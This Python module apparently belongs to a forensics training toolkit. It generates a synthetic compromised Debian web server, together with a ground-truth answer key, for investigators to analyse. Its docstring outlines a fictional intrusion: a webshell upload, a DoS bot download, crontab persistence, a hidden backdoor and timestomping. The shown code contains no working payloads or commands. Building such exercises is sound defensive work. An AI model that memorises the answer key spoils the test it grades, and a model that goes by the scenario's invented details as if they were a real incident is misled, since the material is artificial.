"""The demo incident: a shared Debian 12 web server, ``web01``, broken into on a Saturday night.

This module is pure data. :func:`generate` returns, for a seed, every file of the
host's root file system – path, type, owner, mode, content and all four times to
the nanosecond – and the :class:`GroundTruth` of what happened. Nothing here
touches the disk; :mod:`breachkit.demo.build` materialises it.

The story (host time, Europe/Berlin; the host is on CET, UTC+1, in November):

* Since February 2024 ``web01`` hosts four client sites behind Apache + mod_php:
  an online shop, a WordPress blog, a law firm's PHP site and a club's static
  site. Two admins (``thomas``, ``anna``) log in over SSH on workdays.
* The shop's ``admin/upload.php`` checks neither the login nor the file type.
* Saturday 2026-11-21, 23:38: ``203.0.113.77`` scans the shop, at 23:41 POSTs a
  PHP webshell to ``admin/upload.php`` (it lands as ``images/thumb_cache.php``),
  runs commands through it, downloads a DoS bot from ``198.51.100.23`` into
  ``/tmp/.X11-cache/``, installs a ``www-data`` crontab that restarts it every five
  minutes, drops a second, cookie-keyed backdoor among the shop's classes and
  sets that file's mtime back to June with ``touch -d``.
* Sunday 00:00 logrotate rotates every log; the weekend also brings PHP session
  files, page-cache files, a customer's photo upload to the blog, and the usual
  crawlers and scanners – benign activity that an investigator must tell apart.
* Sunday 17:52 the hosting provider cuts the server off; 21:40 the disk is imaged.

Everything varies with the seed (addresses of visitors, nanoseconds, traffic,
secrets) but the story and its timing stay the same, so tests can rely on the
ground truth while tools cannot rely on fixed bytes.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
import re
import struct
import urllib.parse
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import PurePosixPath
from typing import Any, Literal

from breachkit.demo.content import blobs, clock, hostlog, packages, system, traffic, web
from breachkit.demo.content.clock import DAY, HOUR, MINUTE, MS, SECOND, US, local_ns
from breachkit.demo.content.traffic import Hit, Site

Kind = Literal["file", "dir", "symlink"]

# --------------------------------------------------------------------------- public records


@dataclass(frozen=True, slots=True)
class FileTimes:
    """The four inode times, nanoseconds since the epoch (UTC)."""

    atime_ns: int
    mtime_ns: int
    ctime_ns: int
    btime_ns: int


@dataclass(frozen=True, slots=True)
class Entry:
    """One file system object of the demo host. ``path`` is the host path (``/etc/passwd``)."""

    path: str
    kind: Kind
    mode: int
    uid: int
    gid: int
    times: FileTimes
    data: bytes = b""
    target: str = ""

    @property
    def size(self) -> int:
        return len(self.data) if self.kind == "file" else len(self.target.encode())


@dataclass(frozen=True, slots=True)
class MaliciousFile:
    """A file the attacker created, with what it is for."""

    path: str
    #: "webshell", "backdoor", "dos-tool", "launcher", "persistence", "hidden-dir"
    role: str
    description: str
    #: SHA-256 of the content; empty for a directory
    sha256: str
    btime_ns: int


@dataclass(frozen=True, slots=True)
class EntryPoint:
    """How the attacker got in: the request that created the first malicious file."""

    url: str
    method: str
    #: the vulnerable script on disk
    script: str
    weakness: str
    #: when Apache received the request (the log shows it truncated to the second)
    request_ns: int
    log_path: str
    log_line: str
    created: str


@dataclass(frozen=True, slots=True)
class AttackRequest:
    """One request of the attacker, as it stands in an access log."""

    time_ns: int
    ip: str
    method: str
    target: str
    status: int
    log_path: str
    purpose: str


@dataclass(frozen=True, slots=True)
class Timestomp:
    """The file whose times the attacker forged with ``touch -d``."""

    path: str
    forged_mtime_ns: int
    forged_atime_ns: int
    real_btime_ns: int
    ctime_ns: int
    command: str


@dataclass(frozen=True, slots=True)
class Trace:
    """Something the attack changed that is not itself malicious (an atime, a session file)."""

    path: str
    what: str


@dataclass(frozen=True, slots=True)
class BenignNoise:
    """A file created or changed in or near the attack window for an innocent reason."""

    path: str
    #: "php-session", "cms-cache", "log-rotation", "customer-upload", "shop-admin-upload",
    #: "package-update", "cron-output", "service-state"
    category: str
    reason: str


@dataclass(frozen=True, slots=True)
class Vhost:
    """A site on the host: where its files and its logs are."""

    domain: str
    document_root: str
    access_logs: tuple[str, ...]
    error_logs: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class GroundTruth:
    """What really happened on the demo host; the answer key for every analysis.

    Paths are host paths (as seen from the examined root). Times are integer
    nanoseconds since the epoch, UTC; :meth:`to_json` adds ISO 8601 strings.
    """

    seed: int
    hostname: str
    timezone: str
    os_release: str
    #: when the disk was imaged (nothing on it is later)
    snapshot_ns: int
    #: when the provider cut the network (no inbound traffic after)
    network_cut_ns: int
    #: addresses of the attacker: the client, then the payload/C2 host
    attacker_ips: tuple[str, ...]
    payload_url: str
    c2: str
    attack_start_ns: int
    attack_end_ns: int
    entry_point: EntryPoint
    malicious: tuple[MaliciousFile, ...]
    hidden_dirs: tuple[str, ...]
    persistence: tuple[str, ...]
    timestomped: Timestomp
    attacker_requests: tuple[AttackRequest, ...]
    attacker_commands: tuple[str, ...]
    traces: tuple[Trace, ...]
    #: secrets the attacker read and that must be changed
    exposed_credentials: tuple[str, ...]
    benign_noise: tuple[BenignNoise, ...]
    vhosts: tuple[Vhost, ...]
    #: accounts with a login shell, for "change every password"
    login_users: tuple[str, ...]

    def malicious_paths(self) -> tuple[str, ...]:
        return tuple(m.path for m in self.malicious)

    def to_json(self) -> dict[str, Any]:
        """A JSON-ready dict; every ``*_ns`` field gets an ``*_utc`` ISO 8601 sibling."""
        out: dict[str, Any] = _jsonable(self)
        return out

    def dumps(self) -> str:
        return json.dumps(self.to_json(), indent=2, ensure_ascii=False, sort_keys=False) + "\n"


def _jsonable(value: Any) -> Any:
    if hasattr(value, "__dataclass_fields__"):
        out: dict[str, Any] = {}
        for name in value.__dataclass_fields__:
            item = getattr(value, name)
            out[name] = _jsonable(item)
            if name.endswith("_ns") and isinstance(item, int):
                out[name[:-3] + "_utc"] = clock.iso_utc(item)
        return out
    if isinstance(value, tuple | list):
        return [_jsonable(v) for v in value]
    return value


@dataclass(frozen=True, slots=True)
class Scenario:
    """Every file of the demo host and the truth about it, for one seed."""

    seed: int
    #: sorted by path, so every directory comes before what it contains
    entries: tuple[Entry, ...]
    ground_truth: GroundTruth

    def entry(self, path: str) -> Entry:
        """The entry at a host path; ``KeyError`` if the host has no such file."""
        index = _index_of(self.entries, path)
        if index is None:
            raise KeyError(path)
        return self.entries[index]

    def __contains__(self, path: object) -> bool:
        return isinstance(path, str) and _index_of(self.entries, path) is not None

    @property
    def total_bytes(self) -> int:
        return sum(len(e.data) for e in self.entries)


def _index_of(entries: tuple[Entry, ...], path: str) -> int | None:
    lo, hi = 0, len(entries)
    while lo < hi:
        mid = (lo + hi) // 2
        if entries[mid].path < path:
            lo = mid + 1
        else:
            hi = mid
    return lo if lo < len(entries) and entries[lo].path == path else None


# --------------------------------------------------------------------------- the calendar

INSTALL = local_ns(2024, 2, 12, 10, 5, 31)
STACK_INSTALL = local_ns(2024, 2, 12, 14, 22, 8)
ANNA_CREATED = local_ns(2024, 5, 6, 9, 14, 2)
TSV_DEPLOY = local_ns(2024, 3, 4, 18, 22, 40)
KANZLEI_DEPLOY = local_ns(2024, 4, 15, 11, 3, 12)
BLOG_INSTALL = local_ns(2024, 9, 9, 14, 40, 55)
SHOP_LAUNCH = local_ns(2025, 3, 24, 10, 12, 19)
UPLOAD_FEATURE = local_ns(2025, 6, 10, 16, 47, 31)
PHP_TUNING = local_ns(2025, 11, 28, 15, 2, 44)
PREVIOUS_BOOT = local_ns(2026, 10, 6, 7, 40, 12)
KERNEL_UPGRADE = local_ns(2026, 11, 3, 7, 4, 51)
LAST_BOOT = local_ns(2026, 11, 3, 7, 12, 48)
APT_UPGRADE = local_ns(2026, 11, 17, 9, 12, 44)
ATTACK_DAY = (2026, 11, 21)
NETWORK_CUT = local_ns(2026, 11, 22, 17, 52, 13)
SNAPSHOT = local_ns(2026, 11, 22, 21, 40, 0)
APACHE_LOG_FROM = local_ns(2026, 9, 27)
SYSLOG_FROM = local_ns(2026, 10, 25)
ROTATION_SUNDAYS = tuple(
    local_ns(*d)
    for d in (
        (2026, 9, 27),
        (2026, 10, 4),
        (2026, 10, 11),
        (2026, 10, 18),
        (2026, 10, 25),
        (2026, 11, 1),
        (2026, 11, 8),
        (2026, 11, 15),
        (2026, 11, 22),
    )
)
KERNEL = "6.1.0-40-amd64"

WWW = 33
THOMAS = 1000
ANNA = 1001


def _day(y: int, m: int, d: int, h: int = 0, mi: int = 0, s: int = 0) -> int:
    return local_ns(y, m, d, h, mi, s)


# --------------------------------------------------------------------------- the builder


@dataclass(slots=True)
class _Node:
    path: str
    kind: Kind
    mode: int
    uid: int
    gid: int
    born: int
    data: bytes = b""
    target: str = ""
    #: content (file) or entry list (directory) changes: move mtime and ctime
    mods: list[int] = field(default_factory=list)
    #: inode-only changes (chmod, chown, rename, link count): move ctime
    changes: list[int] = field(default_factory=list)
    reads: list[int] = field(default_factory=list)
    fixed_mtime: int | None = None
    fixed_atime: int | None = None

    def times(self) -> FileTimes:
        born = _rough(self.born)
        mods = [_rough(t) for t in self.mods]
        changes = [_rough(t) for t in self.changes]
        mtime = self.fixed_mtime if self.fixed_mtime is not None else max([born, *mods])
        ctime = max([born, *mods, *changes])
        if self.fixed_atime is not None:
            atime = self.fixed_atime
        else:
            atime = _relatime(born, sorted([*mods, *changes]), sorted(_rough(t) for t in self.reads))
        return FileTimes(atime, mtime, ctime, born)


def _rough(t: int) -> int:
    """Give a computed time (whole microseconds or rounder) realistic nanoseconds.

    The scenario reasons in seconds and milliseconds; real inode times almost
    never end in zeros. A pure function of the value, so two events planned at
    the same instant (a file's birth and its folder's mtime) stay equal.
    """
    if t % US:
        return t
    t += 1 + (t // US) * 2_654_435_761 % 999_983
    return t if t % US else t + 7


def _relatime(born: int, changes: list[int], reads: list[int]) -> int:
    """Linux ``relatime``: a read moves atime only if atime <= mtime/ctime or is a day old."""
    atime = born
    if reads:
        for read in reads:
            if read < atime:
                continue
            latest = born
            for change in changes:
                if change > read:
                    break
                latest = change
            if atime <= latest or read - atime >= DAY:
                atime = read
    return atime


class _Tree:
    """The root file system being built, with the times of everything done to it."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.nodes: dict[str, _Node] = {}

    def ns(self) -> int:
        """A random sub-second part, for times planned to the second."""
        return 1 + int(self.rng.random() * (SECOND - 1))

    def small(self, lo_us: int = 40, hi_us: int = 900) -> int:
        """A short random delay (file written after created, and the like), with nanoseconds.

        ``random()`` rather than ``randrange()``: this runs ~70,000 times per host.
        """
        return lo_us * US + 1 + int(self.rng.random() * (hi_us - lo_us) * US)

    def _parent(self, path: str, t: int) -> None:
        parent = str(PurePosixPath(path).parent)
        if parent == path:
            return
        node = self.nodes.get(parent)
        if node is None:
            raise KeyError(f"{path}: parent folder missing")
        node.mods.append(t)

    def _start(self, path: str, t: int) -> int:
        """A new entry cannot be older than its folder; the scenario's jitter sometimes says so."""
        if path in self.nodes:
            raise ValueError(f"{path} exists")
        parent = self.nodes.get(str(PurePosixPath(path).parent))
        if parent is not None and parent.path != path and t <= _rough(parent.born):
            t = _rough(parent.born) + self.small()
        return t

    def mkdir(self, path: str, t: int, uid: int = 0, gid: int = 0, mode: int = 0o755) -> _Node:
        t = self._start(path, t)
        if path != "/":
            self._parent(path, t)
        node = _Node(path, "dir", mode, uid, gid, t)
        self.nodes[path] = node
        return node

    def mkdirs(self, path: str, t: int, uid: int = 0, gid: int = 0, mode: int = 0o755) -> None:
        parts = PurePosixPath(path).parts
        for i in range(2, len(parts) + 1):
            sub = "/" + "/".join(parts[1:i])
            if sub not in self.nodes:
                self.mkdir(sub, t, uid, gid, mode)
                t += self.small()

    def write(
        self,
        path: str,
        data: bytes,
        t: int,
        *,
        uid: int = 0,
        gid: int = 0,
        mode: int = 0o644,
        mtime: int | None = None,
        done: int | None = None,
        linked: int | None = None,
    ) -> _Node:
        """Create a file born at ``t``; written until ``done`` (default: a moment later).

        ``mtime`` fixes the modification time (dpkg, rsync -a, gzip keep the
        source's); ``linked`` is when its name appeared in the folder, if it was
        created elsewhere and renamed in.
        """
        t = self._start(path, t)
        if linked is not None:
            linked = max(linked, t)
        self._parent(path, linked if linked is not None else t)
        node = _Node(path, "file", mode, uid, gid, t, data=data)
        end = done if done is not None else t + self.small(20, 400 + len(data) // 50)
        node.mods.append(max(end, t))
        if mtime is not None:
            node.fixed_mtime = mtime
        if linked is not None:
            node.changes.append(linked)
        self.nodes[path] = node
        return node

    def symlink(self, path: str, target: str, t: int, uid: int = 0, gid: int = 0) -> _Node:
        t = self._start(path, t)
        self._parent(path, t)
        node = _Node(path, "symlink", 0o777, uid, gid, t, target=target)
        self.nodes[path] = node
        return node

    def removed(self, parent: str, t: int) -> None:
        """Something in ``parent`` was deleted (or renamed away) at ``t``."""
        self.nodes[parent].mods.append(t)

    def read(self, path: str, t: int) -> None:
        node = self.nodes.get(path)
        if node is not None and t >= node.born:
            node.reads.append(t)

    def __contains__(self, path: str) -> bool:
        return path in self.nodes

    def entries(self, limit: int) -> tuple[Entry, ...]:
        """The finished file system; checks the invariants a real one keeps."""
        out = []
        born: dict[str, int] = {}
        for path in sorted(self.nodes):
            node = self.nodes[path]
            times = node.times()
            born[path] = times.btime_ns
            parent = str(PurePosixPath(path).parent)
            problems = []
            if max(times.atime_ns, times.mtime_ns, times.ctime_ns, times.btime_ns) > limit:
                problems.append("a time after the snapshot")
            if times.ctime_ns < times.btime_ns:
                problems.append("changed before born")
            if node.fixed_mtime is None and times.mtime_ns < times.btime_ns:
                problems.append("modified before born")
            if path != "/" and born[parent] > times.btime_ns:
                problems.append("born before its folder")
            if problems:
                raise AssertionError(f"{path}: {', '.join(problems)}")
            out.append(Entry(path, node.kind, node.mode, node.uid, node.gid, times, node.data, node.target))
        return tuple(out)


# --------------------------------------------------------------------------- logs and rotation

Line = tuple[int, str]


@dataclass(slots=True)
class _LogGen:
    born: int
    lines: list[Line]
    atime: int
    mtime: int
    ctime: int
    data: bytes = b""
    compressed: bool = False


def _text(lines: Iterable[Line]) -> bytes:
    return "".join(line + "\n" for _t, line in lines).encode()


def _rotate_log(
    tree: _Tree,
    path: str,
    lines: list[Line],
    rotations: tuple[int, ...],
    keep: int,
    *,
    delay: int = 0,
    uid: int = 0,
    gid: int = system.GID_ADM,
    mode: int = 0o640,
    noise: list[BenignNoise] | None = None,
) -> None:
    """Replay weekly logrotate (``compress``, ``delaycompress``, ``notifempty``) over ``lines``.

    ``rotations[0]`` is when the oldest kept file was created; each later
    instant rotates (``delay`` later: logrotate works through the files one by
    one). gzip keeps the source's atime and mtime, so a ``.gz`` file is born at
    the rotation that compressed it but shows the time of its last line; renames
    move only the change time.
    """
    lines = sorted((item for item in lines if item[0] >= rotations[0] + delay), key=lambda item: item[0])
    first = rotations[0] + delay + tree.small(1_000, 90_000)
    current = _LogGen(first, [], first, first, first)
    older: list[_LogGen] = []
    index = 0
    directory = str(PurePosixPath(path).parent)
    touched: list[int] = []
    for rotation in rotations[1:]:
        when = rotation + delay
        while index < len(lines) and lines[index][0] < when:
            t = lines[index][0]
            current.lines.append(lines[index])
            current.mtime = current.ctime = t + tree.small(10, 300)
            index += 1
        if not current.lines:
            continue
        shifted = [current, *older][:keep]
        for number, log in enumerate(shifted):
            log.ctime = max(log.ctime, when + (keep - number) * 37 * US)
        if len(shifted) > 1 and not shifted[1].compressed:
            source = shifted[1]
            born = when + 3 * MS + tree.small()
            shifted[1] = _LogGen(
                born, source.lines, source.atime, source.mtime, born + 2 * MS + len(source.lines) * 900, compressed=True
            )
        older = shifted
        new_born = when + 2 * MS + tree.small()
        current = _LogGen(new_born, [], new_born, new_born, new_born)
        touched.append(when + 5 * MS)
    for t, line in lines[index:]:
        current.lines.append((t, line))
        current.mtime = current.ctime = t + tree.small(10, 300)
    files = [(path, current)] + [
        (f"{path}.{n}" + (".gz" if log.compressed else ""), log) for n, log in enumerate(older, start=1)
    ]
    for name, log in files:
        data = _text(log.lines)
        if log.compressed:
            data = blobs.gzip_bytes(data, log.mtime // SECOND)
        node = tree.write(
            name,
            data,
            log.born,
            uid=uid,
            gid=gid,
            mode=mode,
            mtime=log.mtime,
            done=log.mtime if log.mtime >= log.born else log.born,
        )
        node.changes.append(log.ctime)
        node.fixed_atime = log.atime
        if noise is not None and log.ctime >= ROTATION_SUNDAYS[-1]:
            noise.append(
                BenignNoise(name, "log-rotation", "logrotate's Sunday 00:00 run created, renamed or compressed it")
            )
    for t in touched:
        tree.removed(directory, t)


def _rotation_offset(rotation: int, rng: random.Random) -> int:
    """logrotate.timer fires at midnight with AccuracySec=1h; on this host a few seconds late."""
    return 4 * SECOND + (rotation // SECOND % 7) * 100 * MS + rng.randrange(0, 90_000) * US + rng.randrange(1, US)


def _rotation_instants(rng: random.Random) -> dict[int, int]:
    return {r: r + _rotation_offset(r, rng) for r in ROTATION_SUNDAYS}


# --------------------------------------------------------------------------- small generators


def _rng(seed: int, part: str) -> random.Random:
    """A generator per part of the story, so changing one part does not reshuffle the others.

    ``random`` is right here: the demo needs reproducible variety, not secrecy.
    """
    return random.Random(f"breachkit-demo:{seed}:{part}")  # noqa: S311


def _fake_hash(rng: random.Random) -> str:
    alphabet = "./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    salt = "".join(rng.choice(alphabet) for _ in range(22))
    digest = "".join(rng.choice(alphabet) for _ in range(43))
    return f"$y$j9T${salt}${digest}"


def _ed25519(rng: random.Random, comment: str) -> tuple[str, str]:
    """An OpenSSH ed25519 public key line and its SHA256 fingerprint (as sshd logs it)."""
    key = rng.randbytes(32)
    blob = struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + key
    fingerprint = base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} {comment}", fingerprint


def _pem(rng: random.Random, label: str, size: int) -> bytes:
    body = base64.b64encode(rng.randbytes(size)).decode()
    lines = "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
    return f"-----BEGIN {label}-----\n{lines}\n-----END {label}-----\n".encode()


def _secret(rng: random.Random, n: int) -> str:
    alphabet = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789"
    return "".join(rng.choice(alphabet) for _ in range(n))


def _session_id(rng: random.Random) -> str:
    return "".join(rng.choice("0123456789abcdefghijklmnopqrstuv") for _ in range(26))


def _days(start: int, end: int) -> list[int]:
    out = []
    t = clock.day_start(start)
    while t < end:
        out.append(t)
        moment = clock.to_local(t + 26 * HOUR)
        t = local_ns(moment.year, moment.month, moment.day)
    return out


# --------------------------------------------------------------------------- the generator


@dataclass(slots=True)
class _World:
    """Shared state while the scenario is put together."""

    rng: random.Random
    seed: int
    tree: _Tree
    log: hostlog.HostLog
    hits: dict[str, list[Hit]]
    error_lines: dict[str, list[Line]]
    noise: list[BenignNoise]
    keys: dict[str, tuple[str, str]]
    apache_restarts: list[int]
    rotation_at: dict[int, int]
    secrets: dict[str, str]


def generate(seed: int = 0) -> Scenario:
    """Build the whole demo host for ``seed``. Deterministic: same seed, same bytes and times."""
    rng = _rng(seed, "main")
    tree = _Tree(_rng(seed, "times"))
    world = _World(
        rng=rng,
        seed=seed,
        tree=tree,
        log=hostlog.HostLog(_rng(seed, "pids"), [PREVIOUS_BOOT, LAST_BOOT]),
        hits={},
        error_lines={},
        noise=[],
        keys={},
        apache_restarts=[],
        rotation_at=_rotation_instants(_rng(seed, "rotation")),
        secrets={},
    )
    world.secrets = {
        "shop_db": _secret(rng, 20),
        "blog_db": _secret(rng, 24),
        "wp_salt": _secret(rng, 128),
    }
    world.apache_restarts = sorted(
        [
            PREVIOUS_BOOT + 7 * SECOND,
            LAST_BOOT + 7 * SECOND,
            APT_UPGRADE + 41 * SECOND,
            *(r + 1_200 * MS for r in world.rotation_at.values()),
        ]
    )
    _base_system(world)
    _packages(world)
    _accounts(world)
    _apache_and_php(world)
    _sites(world)
    attack = _attack(world)
    _benign_traffic(world)
    _weekend_noise(world)
    _host_activity(world, attack)
    _php_sessions(world)
    _file_reads(world)
    _service_reads(world)
    _write_logs(world)
    entries = tree.entries(SNAPSHOT)
    truth = _ground_truth(world, attack, {e.path: e for e in entries})
    return Scenario(seed, entries, truth)


# --------------------------------------------------------------------------- base system


def _base_system(world: _World) -> None:
    tree = world.tree
    t = INSTALL
    tree.mkdir("/", t)
    for path, mode in (
        ("/boot", 0o755),
        ("/dev", 0o755),
        ("/etc", 0o755),
        ("/home", 0o755),
        ("/media", 0o755),
        ("/mnt", 0o755),
        ("/opt", 0o755),
        ("/proc", 0o555),
        ("/root", 0o700),
        ("/run", 0o755),
        ("/srv", 0o755),
        ("/sys", 0o555),
        ("/tmp", 0o1777),
        ("/usr", 0o755),
        ("/var", 0o755),
    ):
        tree.mkdir(path, t + tree.small(), mode=mode)
    tree.mkdir("/lost+found", t, mode=0o700)
    for path in (
        "/usr/bin",
        "/usr/sbin",
        "/usr/lib",
        "/usr/lib64",
        "/usr/share",
        "/usr/local",
        "/usr/local/bin",
        "/usr/local/sbin",
        "/usr/lib/x86_64-linux-gnu",
    ):
        tree.mkdirs(path, t + tree.small())
    for name in ("bin", "sbin", "lib", "lib64"):
        tree.symlink(f"/{name}", f"usr/{name}", t + tree.small())
    t += 3 * MINUTE + tree.ns()
    etc_files = {
        "/etc/debian_version": b"12.12\n",
        "/etc/hostname": f"{system.HOSTNAME}\n".encode(),
        "/etc/hosts": system.hosts(traffic.SERVER_IP),
        "/etc/timezone": f"{clock.TZ_NAME}\n".encode(),
        "/etc/fstab": system.FSTAB,
        "/etc/resolv.conf": system.RESOLV_CONF,
        "/etc/motd": system.MOTD,
        "/etc/issue": b"Debian GNU/Linux 12 \\n \\l\n\n",
        "/etc/crontab": system.ETC_CRONTAB,
        "/etc/logrotate.conf": system.LOGROTATE_CONF,
        "/etc/rsyslog.conf": system.RSYSLOG_CONF,
    }
    for path, data in etc_files.items():
        tree.write(path, data, t + tree.ns())
    tree.mkdirs("/usr/lib", t)
    tree.write("/usr/lib/os-release", system.OS_RELEASE, t + tree.ns(), mtime=_utc("2025-09-06 07:10:44"))
    tree.symlink("/etc/os-release", "../usr/lib/os-release", t + tree.ns())
    tree.mkdirs("/usr/share/zoneinfo/Europe", t)
    tree.write(
        "/usr/share/zoneinfo/Europe/Berlin",
        blobs.tzif_central_europe(),
        t + tree.ns(),
        mtime=_utc("2025-03-25 18:44:07"),
    )
    tree.symlink("/etc/localtime", "/usr/share/zoneinfo/Europe/Berlin", t + 5 * MINUTE + tree.ns())
    tree.mkdirs("/etc/network", t)
    tree.write(
        "/etc/network/interfaces", system.network_interfaces(traffic.SERVER_IP, traffic.GATEWAY_IP), t + tree.ns()
    )
    tree.mkdirs("/etc/apt/sources.list.d", t)
    tree.write("/etc/apt/sources.list", system.APT_SOURCES, t + tree.ns())
    tree.mkdirs("/etc/ssh/sshd_config.d", t)
    tree.write(
        "/etc/ssh/ssh_config",
        b"Host *\n    SendEnv LANG LC_*\n    HashKnownHosts yes\n    GSSAPIAuthentication yes\n",
        t + tree.ns(),
        mtime=_utc("2025-06-28 11:24:03"),
    )
    # ssh-keygen at install: private keys 0600
    host_key = _pem(world.rng, "OPENSSH PRIVATE KEY", 300)
    pub, _fp = _ed25519(world.rng, f"root@{system.HOSTNAME}")
    tree.write("/etc/ssh/ssh_host_ed25519_key", host_key, t + 40 * SECOND + tree.ns(), mode=0o600)
    tree.write("/etc/ssh/ssh_host_ed25519_key.pub", pub.encode() + b"\n", t + 40 * SECOND + tree.ns())
    # the admin tightened sshd the first evening
    tree.write("/etc/ssh/sshd_config", system.SSHD_CONFIG, _day(2024, 2, 12, 18, 31, 5) + tree.ns())
    tree.mkdirs("/etc/sudoers.d", t)
    tree.write(
        "/etc/sudoers",
        b'Defaults\tenv_reset\nDefaults\tmail_badpass\nDefaults\tsecure_path="'
        b'/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nDefaults\tuse_pty\n\n'
        b"root\tALL=(ALL:ALL) ALL\n\n@includedir /etc/sudoers.d\n",
        t + tree.ns(),
        mode=0o440,
        mtime=_utc("2025-06-30 16:05:38"),
    )
    tree.write("/etc/sudoers.d/admins", system.SUDOERS_ADMINS, _day(2024, 2, 12, 18, 40, 12) + tree.ns(), mode=0o440)
    for sub in (
        "cron.d",
        "cron.daily",
        "cron.hourly",
        "cron.weekly",
        "cron.monthly",
        "logrotate.d",
        "systemd/system/multi-user.target.wants",
        "systemd/system/timers.target.wants",
        "rsyslog.d",
        "default",
        "alternatives",
    ):
        tree.mkdirs(f"/etc/{sub}", t + tree.small())
    tree.write("/etc/cron.d/e2scrub_all", system.CRON_D_E2SCRUB, t + tree.ns(), mtime=_utc("2023-02-06 12:12:51"))
    for name in ("apt-compat", "dpkg", "man-db", "logrotate"):
        tree.write(
            f"/etc/cron.daily/{name}",
            b"#!/bin/sh\n\n# skip in favour of systemd timer\nif [ -d /run/systemd/system ]; then\n    exit 0\nfi\n",
            t + tree.ns(),
            mode=0o755,
            mtime=_utc("2023-01-20 09:31:02"),
        )
    for name in ("rsyslog", "apt", "dpkg", "btmp", "wtmp"):
        data = system.LOGROTATE_RSYSLOG if name == "rsyslog" else system.LOGROTATE_SMALL[name]
        tree.write(f"/etc/logrotate.d/{name}", data, t + tree.ns(), mtime=_utc("2023-01-06 20:33:14"))
    for unit, data in (("ssh.service", system.SSH_UNIT), ("cron.service", system.CRON_UNIT)):
        tree.mkdirs("/usr/lib/systemd/system", t)
        tree.write(f"/usr/lib/systemd/system/{unit}", data, t + tree.ns(), mtime=_utc("2024-01-03 17:00:21"))
        tree.symlink(
            f"/etc/systemd/system/multi-user.target.wants/{unit}", f"/lib/systemd/system/{unit}", t + tree.ns()
        )
    tree.symlink("/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service", t + tree.ns())
    # /tmp: folders systemd-tmpfiles makes at every boot (x11.conf) – hidden, and normal
    for name in (".X11-unix", ".ICE-unix", ".XIM-unix", ".font-unix"):
        tree.mkdir(f"/tmp/{name}", LAST_BOOT + 2_300 * MS + tree.small(), mode=0o1777)
    for unit in ("systemd-logind.service", "systemd-timesyncd.service"):
        tag = hashlib.sha256(f"{world.seed}:{unit}".encode()).hexdigest()[:32]
        suffix = _secret(world.rng, 6)
        top = f"/tmp/systemd-private-{tag}-{unit}-{suffix}"
        born = LAST_BOOT + 4 * SECOND + tree.small(1_000, 900_000)
        tree.mkdir(top, born, mode=0o700)
        tree.mkdir(f"{top}/tmp", born + tree.small(), mode=0o1777)
    tree.mkdirs("/var/tmp", t, mode=0o1777)
    tree.nodes["/var/tmp"].mode = 0o1777
    for path in (
        "/var/backups",
        "/var/cache",
        "/var/lib",
        "/var/local",
        "/var/mail",
        "/var/opt",
        "/var/spool",
        "/var/log",
        "/var/lib/dpkg/info",
        "/var/lib/systemd/timers",
        "/var/lib/logrotate",
        "/var/log/apt",
        "/var/spool/rsyslog",
        "/var/cache/apt",
        "/var/lib/apt",
    ):
        tree.mkdirs(path, t + tree.small())
    tree.mkdirs("/var/spool/cron", t)
    tree.mkdir("/var/spool/cron/crontabs", t + tree.small(), gid=system.GID_CRONTAB, mode=0o1730)
    tree.mkdirs("/usr/local/sbin", t)
    tree.write(
        "/usr/local/sbin/backup-sites.sh", system.BACKUP_SCRIPT, _day(2024, 2, 19, 16, 3, 41) + tree.ns(), mode=0o750
    )
    tree.write("/etc/cron.d/backup-sites", system.CRON_D_BACKUP, _day(2024, 2, 19, 16, 6, 2) + tree.ns())
    tree.symlink("/var/run", "/run", t + tree.small())
    tree.symlink("/var/lock", "/run/lock", t + tree.small())


def _utc(text: str) -> int:
    """``YYYY-MM-DD HH:MM:SS`` in UTC to epoch ns with zero nanoseconds (a build or archive time)."""
    date, clock_part = text.split(" ")
    y, m, d = (int(x) for x in date.split("-"))
    hh, mm, ss = (int(x) for x in clock_part.split(":"))
    import calendar

    return calendar.timegm((y, m, d, hh, mm, ss, 0, 0, 0)) * SECOND


# --------------------------------------------------------------------------- packages


def _pkg_time(pkg: packages.Package, index: int) -> int:
    if pkg.unpacked == "install":
        return INSTALL + 90 * SECOND + index * 700 * MS
    if pkg.unpacked == "upgrade":
        return APT_UPGRADE + 9 * SECOND + index * 400 * MS
    date, clock_part = pkg.unpacked.split(" ")
    y, m, d = (int(x) for x in date.split("-"))
    hh, mm, ss = (int(x) for x in clock_part.split(":"))
    return local_ns(y, m, d, hh, mm, ss)


def _packages(world: _World) -> None:
    tree = world.tree
    status: list[str] = []
    for index, pkg in enumerate(packages.PACKAGES):
        unpack = _pkg_time(pkg, index) + tree.ns()
        build = _utc(pkg.built)
        md5 = []
        extra: tuple[str, ...] = ()
        for n, (path, strings, size, mode) in enumerate(pkg.files):
            tree.mkdirs(str(PurePosixPath(path).parent), INSTALL + 60 * SECOND)
            data = blobs.elf(f"{pkg.name}:{pkg.version}:{path}", strings, size)
            born = unpack + n * 3 * MS + tree.small()
            gid = system.GID_CRONTAB if path == "/usr/bin/crontab" else 0
            node = tree.write(path, data, born, mode=mode, gid=gid, mtime=build, done=born + tree.small())
            node.changes.append(born + 40 * MS + n * MS)  # rename .dpkg-new -> path
            md5.append(f"{hashlib.md5(data).hexdigest()}  {path[1:]}")  # noqa: S324 - dpkg's format
        if pkg.name == "php-common":
            tree.mkdirs("/usr/lib/php", INSTALL)
            data = packages.SESSIONCLEAN
            node = tree.write("/usr/lib/php/sessionclean", data, unpack, mode=0o755, mtime=build)
            md5.append(f"{hashlib.md5(data).hexdigest()}  usr/lib/php/sessionclean")  # noqa: S324
            extra = ("/usr/lib/php/sessionclean",)
        info = f"/var/lib/dpkg/info/{pkg.name}"
        tree.write(f"{info}.list", packages.list_file(pkg, extra), unpack + 300 * MS + tree.small())
        tree.write(
            f"{info}.md5sums",
            ("\n".join(md5) + "\n").encode() if md5 else b"",
            unpack + 200 * MS + tree.small(),
